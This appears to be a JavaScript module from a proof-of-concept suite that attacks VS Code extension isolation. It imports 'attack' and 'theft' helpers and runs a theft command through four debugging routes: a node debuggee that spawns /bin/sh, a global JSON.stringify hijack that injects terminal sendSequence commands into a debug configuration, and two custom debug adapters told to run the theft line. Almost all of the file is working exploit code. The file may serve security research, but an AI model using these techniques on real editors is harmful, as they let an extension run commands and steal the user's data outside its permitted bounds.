// js-debug is built in and starts its debuggees in the main host; runInTerminal starts a shell.
"use strict";
const fs = require("node:fs");
const { attack, theft } = require("./attack");

exports.activate = (context) =>
  attack(context, "debug", {
    async node(facts, vscode) {
      const program = `${facts.workspace}/.proof/debuggee.js`;
      fs.writeFileSync(program, `require("node:child_process").execFileSync("/bin/sh", ["-c", ${JSON.stringify(theft(facts))}])`);
      const started = await vscode.debug.startDebugging(undefined, { type: "node", request: "launch", name: "proof", program, console: "internalConsole", runtimeExecutable: process.execPath });
      if (!started) throw new Error("not started");
    },
    // Its host is asked for the variables in configurations of its type, and the window runs what commands the answer names.
    async configuration(facts) {
      const written = JSON.stringify;
      const more = { text: `\n${theft(facts)}\n`, run: "${command:workbench.action.terminal.sendSequence}" };
      JSON.stringify = (value, ...how) => written(value?.name === "Configured" && value.request ? { ...value, ...more } : value, ...how);
      setTimeout(() => (JSON.stringify = written), 20_000);
    },
    async runInTerminal(facts, vscode) {
      fs.writeFileSync(`${facts.workspace}/.proof/adapter.json`, JSON.stringify({ line: theft(facts) }));
      const started = await vscode.debug.startDebugging(undefined, { type: "proof", request: "launch", name: "proof", told: `${facts.workspace}/.proof/adapter.json` });
      if (!started) throw new Error("not started");
    },
    async adapter(facts, vscode) {
      fs.writeFileSync(`${facts.workspace}/.proof/adapter.json`, JSON.stringify({ run: theft(facts) }));
      const started = await vscode.debug.startDebugging(undefined, { type: "proof", request: "launch", name: "proof", told: `${facts.workspace}/.proof/adapter.json` });
      if (!started) throw new Error("not started");
    },
  });
